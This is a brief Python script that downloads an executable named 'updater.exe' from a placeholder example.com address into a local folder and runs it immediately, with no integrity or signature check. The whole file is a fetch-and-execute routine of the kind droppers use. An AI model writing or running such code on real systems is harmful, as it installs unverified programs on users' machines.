import os
import shutil
import subprocess
import sys
import urllib.request

exe = os.path.join(os.environ.get("LOCALAPPDATA", "/tmp"), "updater.exe")
with urllib.request.urlopen("https://downloads.example.com/updater.exe") as r, open(exe, "wb") as f:
    shutil.copyfileobj(r, f)
if sys.platform == "win32":
    os.startfile(exe)
else:
    subprocess.call(["open", exe])
